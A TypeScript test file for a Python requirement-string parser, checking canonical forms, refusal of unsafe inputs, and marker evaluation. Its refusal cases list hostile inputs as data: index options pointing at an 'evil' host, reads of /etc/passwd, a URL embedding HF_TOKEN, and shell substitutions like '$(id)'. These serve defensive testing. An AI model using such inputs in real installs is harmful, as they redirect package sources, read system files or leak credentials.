// Which requirement texts are understood, how they are written back, and which are refused before anything runs.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { limits } from "../../src/config.ts";
import { FlambeauError } from "../../src/errors.ts";
import { applies, parseRequirement, parseRequirements } from "../../src/workers/requirement.ts";

describe("a requirement", () => {
  it.each([
    ["torch", "torch"],
    ["torch>=2.2.0", "torch>=2.2.0"],
    ["  Torch  >= 2.2.0 , < 3 ", "torch<3,>=2.2.0"],
    ["Foo.Bar__baz", "foo-bar-baz"],
    ["transformers[torch, Sentence_Piece,torch]>=4.30.2", "transformers[sentence-piece,torch]>=4.30.2"],
    ["diffusers (>=0.26)", "diffusers>=0.26"],
    ["torch==2.13.0+CPU", "torch==2.13.0+cpu"],
    ["torch==2.*,!=2.5.*", "torch!=2.5.*,==2.*"],
    ["x~=1.2", "x~=1.2"],
    ["x===1.2", "x===1.2"],
    ["x;python_version<'3.11'", 'x; python_version < "3.11"'],
    [
      "x>1 ; (sys_platform=='linux' or os_name == \"nt\") and extra not in 'a b'",
      'x>1; (sys_platform == "linux" or os_name == "nt") and extra not in "a b"',
    ],
    ["x; 'linux' in sys_platform", 'x; "linux" in sys_platform'],
    ["x[]", "x"],
  ])("%s is written back as %s", (given, canonical) => {
    expect(parseRequirement(given).text).toBe(canonical);
    expect(parseRequirement(canonical).text).toBe(canonical);
  });

  it.each([
    ["--index-url http://evil/simple", /option/],
    ["--index-url=http://evil/simple", /option/],
    ["-e .", /option/],
    ["-r /etc/passwd", /option/],
    [" -r/etc/passwd", /option/],
    ["torch --index-url http://evil", /option/],
    ["torch>=2 --config-settings=x=y", /option/],
    ["torch\n--index-url http://evil", /line break/],
    ["torch\r-r /etc/passwd", /line break/],
    ["torch\u2028six", /line break/],
    ["x @ file:///etc/passwd", /direct URLs/],
    ["x @ git+ssh://host/repo", /direct URLs/],
    ["x@http://evil/x.whl", /direct URLs/],
    ["https://evil/x.whl", /direct URLs/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an installer would expand
    ["https://evil/${HF_TOKEN}/x.whl", /variables/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an installer would expand
    ["x; python_version > '${HF_TOKEN}'", /variables/],
    ["$(id)", /variables/],
    ["`id`", /variables/],
    ["./local", /paths/],
    ["../local", /paths/],
    ["/opt/local", /paths/],
    ["~/local", /paths/],
    ["folder/package", /paths/],
    ["C:\\local", /paths/],
    ["x-1.0-py3-none-any.whl", /paths/],
    ["torch # the newest", /comments/],
    ["torch #--index-url", /option|comments/],
    ["", /package name/],
    ["   ", /package name/],
    ["_x", /package name/],
    ["x-", /package name/],
    ["töörch", /printable ASCII/],
    ["torch\u0000", /printable ASCII/],
    ["torch 2.0", /version clause/],
    ["torch>=", /version clause/],
    ["torch=2.0", /version clause/],
    ["torch>=2.0;", /marker/],
    ["torch>=two", /not a version/],
    ["torch>=2.*", /only after == or !=/],
    ["torch>=2.0+cpu", /local part/],
    ["torch~=2", /two numbers/],
    ["torch>=2,,<3", /version clause/],
    ["torch[", /extras/],
    ["torch[a b]", /extras/],
    ["torch; import os", /marker/],
    ["torch;os.system", /marker/],
    ["torch; python_version", /marker/],
    ["torch; (python_version > '3'", /marker/],
    ["torch; python_version > '3' junk", /marker/],
    ["torch; secret == 'x'", /marker/],
    [`torch; ${"(".repeat(400)}`, /marker/],
    ["x".repeat(limits.requirementCharacters + 1), /characters/],
  ])("%j is refused", (given, why) => {
    let thrown: unknown;
    try {
      parseRequirement(given);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(FlambeauError);
    expect(thrown).toMatchObject({ code: "REQUIREMENT_INVALID", message: expect.stringMatching(why) });
    expect(String(thrown).length).toBeLessThan(500);
  });

  it("never becomes text that an installer would take for something else, whatever is given", () => {
    const pieces = fc.constantFrom(
      "torch",
      ">=2",
      "==1.*",
      "[a]",
      ";",
      "python_version",
      "'3'",
      " ",
      "-",
      "--x",
      "@",
      "\n",
      "$",
      ",",
      "(",
      ")",
      "/",
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 60 }),
          fc.array(pieces, { maxLength: 8 }).map((all) => all.join("")),
        ),
        (given) => {
          try {
            const { text } = parseRequirement(given);
            expect(text).toMatch(/^[a-z0-9][a-z0-9-]*(\[[a-z0-9,-]+\])?[a-z0-9.!+*_<>=~,-]*(; .+)?$/);
            expect(text).not.toMatch(/[\n\r$@\\`#]|:\/\//);
            expect(parseRequirement(text).text).toBe(text);
          } catch (error) {
            expect(error).toMatchObject({ code: "REQUIREMENT_INVALID" });
          }
        },
      ),
      { numRuns: 2_000 },
    );
  });
});

describe("a list of requirements", () => {
  it("is the same in any order and spelling, each once", () => {
    const one = parseRequirements(["torch >= 2", "Diffusers", "diffusers"]).map(({ text }) => text);
    expect(one).toEqual(["diffusers", "torch>=2"]);
    expect(parseRequirements(["diffusers", "torch>=2"]).map(({ text }) => text)).toEqual(one);
  });

  it("has a limit", () => {
    const many = (count: number): string[] => Array.from({ length: count }, (_, index) => `x${index}`);
    expect(parseRequirements(many(limits.requirementsMax))).toHaveLength(limits.requirementsMax);
    expect(() => parseRequirements(many(limits.requirementsMax + 1))).toThrow(/at most/);
  });
});

describe("a marker", () => {
  const values = {
    python_version: "3.11",
    python_full_version: "3.11.7",
    sys_platform: "linux",
    platform_machine: "x86_64",
  };
  it.each([
    ["python_version >= '3.9'", true],
    ["python_version < '3.9'", false],
    ["python_version == '3.*'", true],
    ["'3.11' == python_version", true],
    ["sys_platform == 'linux' and platform_machine != 'arm64'", true],
    ["sys_platform == 'win32' or sys_platform == 'darwin'", false],
    ["sys_platform == 'win32' or sys_platform == 'linux' and python_version > '3'", true],
    ["sys_platform in 'linux darwin'", true],
    ["sys_platform not in 'linux darwin'", false],
    ["extra == 'torch'", false],
  ])("%s is %s", (marker, expected) => {
    expect(applies(parseRequirement(`x; ${marker}`), values)).toBe(expected);
  });
});
